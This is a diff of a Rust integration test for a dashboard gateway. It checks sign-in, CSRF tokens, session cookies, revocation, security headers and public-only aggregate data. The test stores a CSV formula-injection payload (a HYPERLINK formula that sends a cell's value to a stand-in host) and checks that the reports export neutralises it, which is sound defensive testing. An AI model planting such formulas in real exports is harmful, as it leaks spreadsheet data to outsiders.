@@ -2,18 +2,24 @@
 //! servers on ephemeral ports: gRPC-Web over HTTP/1.1 (its own DashboardService and a
 //! forwarded RPC), server reflection v1 and v1alpha listing every service it serves, the
 //! internal services (the suite's own plumbing) refused rather than forwarded, the
-//! page's server-sent events following a report submitted through the gateway, and
-//! `gateway.require_token` guarding the pages and the API (bearer token, login form and
-//! its cookie), and a gateway that reaches the services by name rather than address.
+//! page's server-sent events following a report submitted through the gateway, the
+//! dashboard asking who you are by default (bearer tokens, the login form with its CSRF
+//! token, sessions that end at sign-out and at revocation, the security headers, formulas
+//! neutralised in the reports CSV) and serving only aggregate figures under public access,
+//! and a gateway that reaches the services by name rather than address.
 
 mod common;
 
 use std::{collections::HashMap, net::SocketAddr, time::Duration};
 
 use common::{
-    GatewaySuite, Headers, HttpAnswer, PLAN, Server, Suite, dechunk, http_get, http_request, split_head, start_suite,
+    GatewaySuite, Headers, HttpAnswer, PLAN, Server, Suite, dechunk, http_get, http_request, split_head,
+    start_local_suite, start_suite,
 };
-use duban_kit::testing::{self, Backend};
+use duban_kit::{
+    settings::DashboardAccess,
+    testing::{self, Backend},
+};
 use duban_proto::{
     common::v1::Period,
     departments::v1::{ListGroupsRequest, ListGroupsResponse, Role},
@@ -504,7 +510,8 @@ impl EventStream {
 }
 
 async fn live_events_follow_reports(backend: Backend) {
-    let Some(suite) = start_suite(backend).await else {
+    // Read as the local user of `duban up`; sign-in is `dashboard_asks_who_you_are`'s.
+    let Some(suite) = start_local_suite(backend).await else {
         return;
     };
     let addr = suite.addr(Server::Gateway);
@@ -594,7 +601,7 @@ async fn live_events_follow_reports(backend: Backend) {
 }
 
 // ---------------------------------------------------------------------------------
-// gateway.require_token
+// gateway.dashboard_access: sign-in, sessions, CSRF, security headers, public figures
 
 fn form_encode(value: &str) -> String {
     value
@@ -606,16 +613,15 @@ fn form_encode(value: &str) -> String {
         .collect()
 }
 
-async fn login(addr: SocketAddr, token: &str) -> HttpAnswer {
-    let body = format!("token={}", form_encode(token));
-    http_request(
-        addr,
-        "POST",
-        "/login",
-        &[("Content-Type", "application/x-www-form-urlencoded")],
-        body.as_bytes(),
-    )
-    .await
+async fn post_form(addr: SocketAddr, path: &str, fields: &[(&str, &str)], headers: &[(&str, &str)]) -> HttpAnswer {
+    let body = fields
+        .iter()
+        .map(|(name, value)| format!("{name}={}", form_encode(value)))
+        .collect::<Vec<_>>()
+        .join("&");
+    let mut all = vec![("Content-Type", "application/x-www-form-urlencoded")];
+    all.extend_from_slice(headers);
+    http_request(addr, "POST", path, &all, body.as_bytes()).await
 }
 
 async fn get(addr: SocketAddr, path: &str, headers: &[(&str, &str)]) -> HttpAnswer {
@@ -623,13 +629,138 @@ async fn get(addr: SocketAddr, path: &str, headers: &[(&str, &str)]) -> HttpAnsw
 }
 
 fn is_login_redirect(answer: &HttpAnswer) -> bool {
-    (300..400).contains(&answer.status) && answer.header("location") == Some("/login")
+    answer.status == 303 && answer.header("location") == Some("/login")
 }
 
-async fn require_token_guards_pages_and_api(backend: Backend) {
+/// The attributes of the `Set-Cookie` header that sets `name`: `name=value` first, then the rest.
+fn cookie_set(answer: &HttpAnswer, name: &str) -> Option<Vec<String>> {
+    answer
+        .all("set-cookie")
+        .into_iter()
+        .find(|c| c.starts_with(&format!("{name}=")))
+        .map(|c| c.split(';').map(|a| a.trim().to_owned()).collect())
+}
+
+fn has_attribute(attributes: &[String], wanted: &str) -> bool {
+    attributes.iter().any(|a| {
+        a.eq_ignore_ascii_case(wanted)
+            || a.to_ascii_lowercase()
+                .starts_with(&format!("{}=", wanted.to_ascii_lowercase()))
+    })
+}
+
+/// The security headers every HTML answer carries.
+fn assert_security_headers(answer: &HttpAnswer, what: &str) {
+    assert_eq!(
+        answer.header("content-security-policy"),
+        Some(duban_gateway::http::CONTENT_SECURITY_POLICY),
+        "{what}: {:?}",
+        answer.headers
+    );
+    let csp = duban_gateway::http::CONTENT_SECURITY_POLICY;
+    for directive in ["frame-ancestors 'none'", "script-src 'self'", "style-src 'self'"] {
+        assert!(csp.contains(directive), "{csp}");
+    }
+    assert!(!csp.contains("unsafe-inline"), "{csp}");
+    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
+    assert_eq!(answer.header("x-frame-options"), Some("DENY"), "{what}");
+    assert_eq!(answer.header("referrer-policy"), Some("no-referrer"), "{what}");
+}
+
+/// The login form's CSRF token: from its cookie, which must equal the form's hidden field.
+fn login_csrf(form: &HttpAnswer) -> String {
+    let attributes = cookie_set(form, "duban_login_csrf").expect("the login form sets its CSRF cookie");
+    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/login"] {
+        assert!(has_attribute(&attributes, attribute), "{attribute}: {attributes:?}");
+    }
+    let value = attributes[0]["duban_login_csrf=".len()..].to_owned();
+    assert!(value.len() >= 43, "256 random bits: {value}");
+    assert!(
+        form.text().contains(&format!("name=\"csrf\" value=\"{value}\"")),
+        "the form carries the cookie's token"
+    );
+    value
+}
+
+/// Signs in with `token` through the login form, as a browser does; the session cookie's
+/// attributes.
+async fn sign_in(addr: SocketAddr, token: &str, extra: &[(&str, &str)]) -> Vec<String> {
+    let form = get(addr, "/login", extra).await;
+    assert_eq!(form.status, 200);
+    let csrf = login_csrf(&form);
+    let cookie = format!("duban_login_csrf={csrf}");
+    let mut headers = vec![("Cookie", cookie.as_str())];
+    headers.extend_from_slice(extra);
+    let accepted = post_form(addr, "/login", &[("token", token), ("csrf", &csrf)], &headers).await;
+    assert!(
+        accepted.status == 303 && accepted.header("location") == Some("/"),
+        "{} {:?} {}",
+        accepted.status,
+        accepted.headers,
+        accepted.text()
+    );
+    cookie_set(&accepted, "duban_session").expect("a session cookie")
+}
+
+/// The signed-in page's sign-out CSRF token.
+fn logout_csrf(page: &str) -> String {
+    let marker = "<form method=\"post\" action=\"/logout\" id=\"logout\"><input type=\"hidden\" name=\"csrf\" value=\"";
+    let start = page.find(marker).expect("a sign-out form") + marker.len();
+    page[start..].split('"').next().unwrap().to_owned()
+}
+
+/// Submits a final report by the first unit responsible for `district-major-projects`, with `narrative`.
+async fn submit_with_narrative(suite: &Suite, narrative: &str) -> rpb::Report {
+    let mut dashboard = suite.dashboard(suite.admin_token());
+    let overview = suite.overview(&mut dashboard).await;
+    let target = overview
+        .targets
+        .iter()
+        .filter_map(|t| t.target.clone())
+        .find(|t| t.code == "district-major-projects")
+        .expect("district-major-projects in the overview");
+    let department = target.reporting_departments[0].clone();
+    let mut reporting =
+        ReportingServiceClient::new(testing::channel(suite.addr(Server::Gateway), Some(suite.admin_token())));
+    reporting
+        .submit_report(rpb::SubmitReportRequest {
+            parent: PLAN.into(),
+            report: Some(rpb::Report {
+                measure_number: target.measure_number.clone(),
+                department: department.clone(),
+                period: Some(Period { year: 2023, month: 10 }),
+                overall_status: rpb::OverallStatus::OnTrack as i32,
+                narrative: narrative.into(),
+                metric_values: suite
+                    .final_values(&target.measure_number, &department, &target.code, "30")
+                    .await,
+                ..Default::default()
+            }),
+            request_id: uuid::Uuid::new_v4().to_string(),
+            validate_only: false,
+        })
+        .await
+        .unwrap()
+        .into_inner()
+}
+
+/// The routes that show a report's text, a blocker or a unit's detail.
+const SENSITIVE_PAGES: [&str; 3] = ["/", "/measures/4.2", "/departments/anting-town"];
+const SENSITIVE_API: [&str; 7] = [
+    "/api/v1/overview",
+    "/api/v1/overview.csv",
+    "/api/v1/reports.csv",
+    "/api/v1/measures/4.2",
+    "/api/v1/departments/anting-town",
+    "/api/v1/alerts",
+    "/api/v1/events",
+];
+
+async fn dashboard_asks_who_you_are(backend: Backend) {
+    // The defaults of `duban serve gateway`, with a one-second token cache: the revocation window.
     let Some(suite) = Suite::builder(backend)
         .all()
-        .configure(|settings| settings.gateway.require_token = true)
+        .configure(|settings| settings.auth.cache_ttl_seconds = 1)
         .start()
         .await
     else {
@@ -638,107 +769,310 @@ async fn require_token_guards_pages_and_api(backend: Backend) {
     let addr = suite.addr(Server::Gateway);
     let leadership = suite.issue_token(Role::Leadership, "").await;
     let department = suite.issue_token(Role::Department, "anting-town").await;
+    let formula = "=HYPERLINK(\"http://x/?\"&A2,\"详情\")";
+    let stored = submit_with_narrative(&suite, formula).await;
 
-    // No token: the page sends to the login form, the API and CSV answer 401.
-    let page = get(addr, "/", &[]).await;
-    assert!(is_login_redirect(&page), "{} {:?}", page.status, page.headers);
-    for path in [
-        "/api/v1/overview",
-        "/api/v1/overview.csv",
-        "/api/v1/alerts",
-        "/api/v1/events",
-    ] {
+    // Anonymous: every page sends to the login form, every API call and export is 401.
+    for path in SENSITIVE_PAGES {
+        let page = get(addr, path, &[]).await;
+        assert!(is_login_redirect(&page), "{path}: {} {:?}", page.status, page.headers);
+        assert_security_headers(&page, path);
+    }
+    for path in SENSITIVE_API {
         let answer = get(addr, path, &[]).await;
         assert_eq!(answer.status, 401, "{path}: {}", answer.text());
+        assert!(!answer.text().contains("HYPERLINK"), "{path}");
     }
-    let answer = get(addr, "/api/v1/overview", &[("Authorization", "Bearer dbn_not_a_token")]).await;
-    assert_eq!(answer.status, 401, "an unknown token: {}", answer.text());
-    // The login form itself is open.
-    let form = get(addr, "/login", &[]).await;
-    assert_eq!(form.status, 200);
-    assert!(form.text().contains("name=\"token\""));
+    // What a browser needs to sign in stays open.
+    for (path, kind) in [
+        ("/login", "text/html"),
+        ("/static/style.css", "text/css"),
+        ("/static/live.js", "text/javascript"),
+    ] {
+        let answer = get(addr, path, &[]).await;
+        assert_eq!(answer.status, 200, "{path}");
+        assert!(
+            answer.header("content-type").is_some_and(|c| c.starts_with(kind)),
+            "{path}"
+        );
+        assert_security_headers(&answer, path);
+    }
+    assert_eq!(get(addr, "/static/other.js", &[]).await.status, 404);
 
-    // A leadership bearer token opens both.
+    // Bearer tokens: leadership reads, a department, the gateway's own service token and an unknown
+    // token do not.
     let bearer = format!("Bearer {leadership}");
     let answer = get(addr, "/api/v1/overview", &[("Authorization", &bearer)]).await;
     assert_eq!(answer.status, 200, "{}", answer.text());
     let json: Value = serde_json::from_slice(&answer.body).unwrap();
     assert_eq!(json["actions"].as_array().unwrap().len(), 10);
-    let page = get(addr, "/", &[("Authorization", &bearer)]).await;
-    assert_eq!(page.status, 200);
-    assert!(page.text().contains("<html"));
-
-    // A department's token is refused: 403 from the API, the login form for the page.
-    let bearer = format!("Bearer {department}");
-    let answer = get(addr, "/api/v1/overview", &[("Authorization", &bearer)]).await;
-    assert_eq!(answer.status, 403, "{}", answer.text());
-    let page = get(addr, "/", &[("Authorization", &bearer)]).await;
-    assert!(is_login_redirect(&page), "{} {:?}", page.status, page.headers);
-
-    // The login form: a wrong token, and a department's, are refused without a cookie.
-    for token in ["dbn_not_a_token", department.as_str(), ""] {
-        let refused = login(addr, token).await;
-        assert_eq!(refused.status, 401, "{token:?}: {}", refused.text());
-        assert!(refused.all("set-cookie").is_empty(), "{:?}", refused.headers);
+    for (token, status) in [
+        (department.as_str(), 403),
+        (suite.service_token(), 403),
+        ("dbn_not_a_token", 401),
+    ] {
+        let answer = get(
+            addr,
+            "/api/v1/overview",
+            &[("Authorization", &format!("Bearer {token}"))],
+        )
+        .await;
+        assert_eq!(answer.status, status, "{}", answer.text());
     }
 
-    // A leadership token sets an HttpOnly, SameSite cookie and sends to the dashboard.
-    let accepted = login(addr, &leadership).await;
-    assert!(
-        (300..400).contains(&accepted.status) && accepted.header("location") == Some("/"),
-        "{} {:?}",
-        accepted.status,
-        accepted.headers
-    );
-    let set_cookie = accepted.all("set-cookie");
-    assert_eq!(set_cookie.len(), 1, "{:?}", accepted.headers);
-    let attributes: Vec<String> = set_cookie[0].split(';').map(|a| a.trim().to_owned()).collect();
-    let pair = attributes[0].clone();
-    assert_eq!(pair, format!("duban_token={leadership}"));
-    let has = |name: &str| {
-        attributes.iter().any(|a| {
-            a.eq_ignore_ascii_case(name)
-                || a.to_ascii_lowercase()
-                    .starts_with(&format!("{}=", name.to_ascii_lowercase()))
-        })
-    };
-    assert!(has("HttpOnly"), "{set_cookie:?}");
-    assert!(
-        attributes
-            .iter()
-            .any(|a| a.eq_ignore_ascii_case("SameSite=Strict") || a.eq_ignore_ascii_case("SameSite=Lax")),
-        "{set_cookie:?}"
-    );
-    assert!(has("Path"), "{set_cookie:?}");
+    // The login form: its CSRF token must come back in both the field and the cookie.
+    let form = get(addr, "/login", &[]).await;
+    let csrf = login_csrf(&form);
+    let cookie = format!("duban_login_csrf={csrf}");
+    let other = get(addr, "/login", &[]).await;
+    let other_csrf = login_csrf(&other);
+    assert_ne!(csrf, other_csrf, "every form has its own token");
+    for (fields, headers, why) in [
+        (vec![("token", leadership.as_str())], vec![], "no token, no cookie"),
+        (
+            vec![("token", leadership.as_str())],
+            vec![("Cookie", cookie.as_str())],
+            "no token in the form",
+        ),
+        (
+            vec![("token", leadership.as_str()), ("csrf", csrf.as_str())],
+            vec![],
+            "no cookie",
+        ),
+        (
+            vec![("token", leadership.as_str()), ("csrf", other_csrf.as_str())],
+            vec![("Cookie", cookie.as_str())],
+            "a token from another form",
+        ),
+    ] {
+        let refused = post_form(addr, "/login", &fields, &headers).await;
+        assert_eq!(refused.status, 403, "{why}: {}", refused.text());
+        assert!(
+            cookie_set(&refused, "duban_session").is_none(),
+            "{why}: {:?}",
+            refused.headers
+        );
+    }
+    // ... and a good form with a wrong token, or a department's, opens nothing.
+    for token in ["dbn_not_a_token", department.as_str(), ""] {
+        let refused = post_form(
+            addr,
+            "/login",
+            &[("token", token), ("csrf", &csrf)],
+            &[("Cookie", &cookie)],
+        )
+        .await;
+        assert_eq!(refused.status, 401, "{token:?}: {}", refused.text());
+        assert!(cookie_set(&refused, "duban_session").is_none(), "{:?}", refused.headers);
+    }
 
-    // ... and the cookie opens the page, the API and the live events.
-    let page = get(addr, "/", &[("Cookie", &pair)]).await;
-    assert_eq!(page.status, 200, "{:?}", page.headers);
-    let answer = get(addr, "/api/v1/overview", &[("Cookie", &pair)]).await;
-    assert_eq!(answer.status, 200, "{}", answer.text());
-    let csv = get(addr, "/api/v1/overview.csv", &[("Cookie", &pair)]).await;
-    assert_eq!(csv.status, 200);
-    let measure = get(addr, "/measures/4.2", &[("Cookie", &pair)]).await;
-    assert_eq!(measure.status, 200);
-    let measure = get(addr, "/measures/4.2", &[]).await;
-    assert!(is_login_redirect(&measure), "{} {:?}", measure.status, measure.headers);
-    let (status, headers, mut events) = EventStream::open(addr, "/api/v1/events", &[("Cookie", &pair)]).await;
+    // A leadership token opens a session: the cookie holds its id, never the token.
+    let session = sign_in(addr, &leadership, &[]).await;
+    let pair = session[0].clone();
+    let id = &pair["duban_session=".len()..];
+    assert!(
+        id.len() >= 43 && !id.contains(&leadership) && !leadership.contains(id),
+        "{pair}"
+    );
+    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age"] {
+        assert!(has_attribute(&session, attribute), "{attribute}: {session:?}");
+    }
+    assert!(!has_attribute(&session, "Secure"), "plain HTTP: {session:?}");
+    // Behind a TLS-terminating proxy the cookies are Secure.
+    let behind_tls = sign_in(addr, &leadership, &[("X-Forwarded-Proto", "https")]).await;
+    assert!(has_attribute(&behind_tls, "Secure"), "{behind_tls:?}");
+
+    // The session opens every page, API call, export and the live events.
+    let cookie = [("Cookie", pair.as_str())];
+    for path in SENSITIVE_PAGES {
+        let page = get(addr, path, &cookie).await;
+        assert_eq!(page.status, 200, "{path}: {:?}", page.headers);
+        assert_security_headers(&page, path);
+        assert!(page.text().contains("id=\"logout\""), "{path}: a sign-out button");
+        assert!(
+            !page.text().contains("<script>") && !page.text().contains("style=\""),
+            "{path}: nothing inline"
+        );
+    }
+    for path in SENSITIVE_API.into_iter().filter(|p| *p != "/api/v1/events") {
+        let answer = get(addr, path, &cookie).await;
+        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
+    }
+    let (status, headers, mut events) = EventStream::open(addr, "/api/v1/events", &cookie).await;
     assert_eq!(status, 200, "{headers:?}");
-    let first = events.wait_for(Duration::from_secs(15), |_| true).await;
-    assert!(first["compute_time"].is_string(), "{first}");
+    events.wait_for(Duration::from_secs(15), |_| true).await;
     drop(events);
-    let refused = get(
-        addr,
-        "/api/v1/events",
-        &[("Authorization", &format!("Bearer {department}"))],
-    )
+
+    // The narrative that would be a formula is text in the reports CSV.
+    let csv = get(addr, "/api/v1/reports.csv", &cookie).await.text();
+    let row = csv
+        .lines()
+        .find(|line| line.starts_with(&stored.name))
+        .unwrap_or_else(|| panic!("{} in {csv}", stored.name));
+    assert!(
+        row.ends_with("\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"详情\"\")\""),
+        "{row}"
+    );
+
+    // Sign-out needs the page's CSRF token; then the session is over.
+    let page = get(addr, "/", &cookie).await.text();
+    let token = logout_csrf(&page);
+    for wrong in ["", "not-the-token"] {
+        let refused = post_form(addr, "/logout", &[("csrf", wrong)], &cookie).await;
+        assert_eq!(refused.status, 403, "{wrong:?}");
+        assert_eq!(
+            get(addr, "/api/v1/alerts", &cookie).await.status,
+            200,
+            "still signed in"
+        );
+    }
+    let out = post_form(addr, "/logout", &[("csrf", &token)], &cookie).await;
+    assert!(is_login_redirect(&out), "{} {:?}", out.status, out.headers);
+    let cleared = cookie_set(&out, "duban_session").expect("the cookie is cleared");
+    assert!(has_attribute(&cleared, "Max-Age=0"), "{cleared:?}");
+    assert!(is_login_redirect(&get(addr, "/", &cookie).await));
+    assert_eq!(get(addr, "/api/v1/reports.csv", &cookie).await.status, 401);
+
+    // A revoked credential ends its session within the revocation window (1 s here).
+    let issued = suite
+        .departments(common::Caller::Admin)
+        .issue_credential(duban_proto::departments::v1::IssueCredentialRequest {
+            credential: Some(duban_proto::departments::v1::Credential {
+                role: Role::Leadership as i32,
+                description: "signs in, then is revoked".into(),
+                ..Default::default()
+            }),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    let session = sign_in(addr, &issued.token, &[]).await;
+    let cookie = [("Cookie", session[0].as_str())];
+    assert_eq!(get(addr, "/api/v1/alerts", &cookie).await.status, 200);
+    let closing = [cookie[0], ("Connection", "close")];
+    let (status, _, mut events) = EventStream::open(addr, "/api/v1/events", &closing).await;
+    assert_eq!(status, 200);
+    suite
+        .departments(common::Caller::Admin)
+        .revoke_credential(duban_proto::departments::v1::RevokeCredentialRequest {
+            name: issued.credential.unwrap().name,
+            request_id: uuid::Uuid::new_v4().to_string(),
+        })
+        .await
+        .unwrap();
+    let revoked = std::time::Instant::now();
+    loop {
+        let answer = get(addr, "/api/v1/alerts", &cookie).await;
+        if answer.status == 401 {
+            break;
+        }
+        assert_eq!(answer.status, 200);
+        assert!(
+            revoked.elapsed() < Duration::from_secs(3),
+            "the session outlived the revocation window"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert!(is_login_redirect(&get(addr, "/", &cookie).await));
+    // ... and its open event stream ends, though no report changed.
+    let ended = tokio::time::timeout(Duration::from_secs(15), async {
+        let mut buffer = [0u8; 4096];
+        loop {
+            match events.stream.read(&mut buffer).await {
+                Ok(0) | Err(_) => break,
+                Ok(_) => {}
+            }
+        }
+    })
     .await;
-    assert_eq!(refused.status, 403, "{}", refused.text());
+    assert!(ended.is_ok(), "the event stream of a revoked session ends");
+    suite.stop().await;
+}
+
+async fn public_access_serves_only_aggregates(backend: Backend) {
+    let Some(suite) = Suite::builder(backend)
+        .all()
+        .configure(|settings| settings.gateway.dashboard_access = DashboardAccess::Public)
+        .start()
+        .await
+    else {
+        return;
+    };
+    let addr = suite.addr(Server::Gateway);
+    let stored = submit_with_narrative(&suite, "@SUM(1+1) 进展顺利").await;
+
+    // The aggregate figures are open, without a single unit in them.
+    let answer = get(addr, "/api/v1/overview", &[]).await;
+    assert_eq!(answer.status, 200, "{}", answer.text());
+    let json: Value = serde_json::from_slice(&answer.body).unwrap();
+    assert_eq!(json["actions"].as_array().unwrap().len(), 10);
+    let measures = json["measures"].as_array().unwrap();
+    assert!(
+        measures.iter().all(|m| m["units"].as_array().unwrap().is_empty()),
+        "{json}"
+    );
+    assert!(
+        json["compliance"]["late_units"].as_array().unwrap().is_empty(),
+        "{json}"
+    );
+    assert!(!answer.text().contains(&stored.department), "no unit is named");
+    let page = get(addr, "/", &[]).await;
+    assert_eq!(page.status, 200);
+    assert_security_headers(&page, "/");
+    let text = page.text();
+    assert!(
+        text.contains("id=\"public-note\"") && text.contains("id=\"sign-in\""),
+        "{text}"
+    );
+    for absent in [
+        "id=\"heatmap\"",
+        "id=\"alerts\"",
+        "/api/v1/reports.csv",
+        "id=\"logout\"",
+    ] {
+        assert!(!text.contains(absent), "{absent} on the public page");
+    }
+    assert_eq!(get(addr, "/api/v1/overview.csv", &[]).await.status, 200);
+    let (status, _, mut events) = EventStream::open(addr, "/api/v1/events", &[]).await;
+    assert_eq!(status, 200);
+    let first = events.wait_for(Duration::from_secs(15), |_| true).await;
+    assert_eq!(first["changed_reports"], Value::Array(vec![]), "{first}");
+    drop(events);
+
+    // Everything else still needs a sign-in.
+    for path in ["/measures/4.2", "/departments/anting-town"] {
+        assert!(is_login_redirect(&get(addr, path, &[]).await), "{path}");
+    }
+    for path in [
+        "/api/v1/reports.csv",
+        "/api/v1/measures/4.2",
+        "/api/v1/departments/anting-town",
+        "/api/v1/alerts",
+    ] {
+        assert_eq!(get(addr, path, &[]).await.status, 401, "{path}");
+    }
+    // A signed-in reader gets the whole overview.
+    let leadership = suite.issue_token(Role::Leadership, "").await;
+    let session = sign_in(addr, &leadership, &[]).await;
+    let cookie = [("Cookie", session[0].as_str())];
+    let full: Value = serde_json::from_slice(&get(addr, "/api/v1/overview", &cookie).await.body).unwrap();
+    assert!(
+        full["measures"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|m| !m["units"].as_array().unwrap().is_empty()),
+        "{full}"
+    );
+    let csv = get(addr, "/api/v1/reports.csv", &cookie).await.text();
+    assert!(csv.contains("'@SUM(1+1) 进展顺利"), "{csv}");
     suite.stop().await;
 }
 
 duban_kit::backend_tests!(
     grpc_web_and_reflection,
     live_events_follow_reports,
-    require_token_guards_pages_and_api
+    dashboard_asks_who_you_are,
+    public_access_serves_only_aggregates
 );
